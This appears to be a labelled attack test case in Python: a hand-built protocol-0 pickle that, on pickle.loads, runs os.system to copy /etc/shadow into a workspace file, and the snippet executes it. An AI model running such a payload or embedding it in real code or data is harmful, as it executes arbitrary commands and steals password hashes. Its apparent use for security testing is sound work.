# attack-class: 8
# title: pickle.loads of a crafted os.system payload
# why: a protocol-0 pickle that calls os.system on load

import pickle

payload = b"cos\nsystem\n(S'cat /etc/shadow > /workspace/s.txt'\ntR."
pickle.loads(payload)
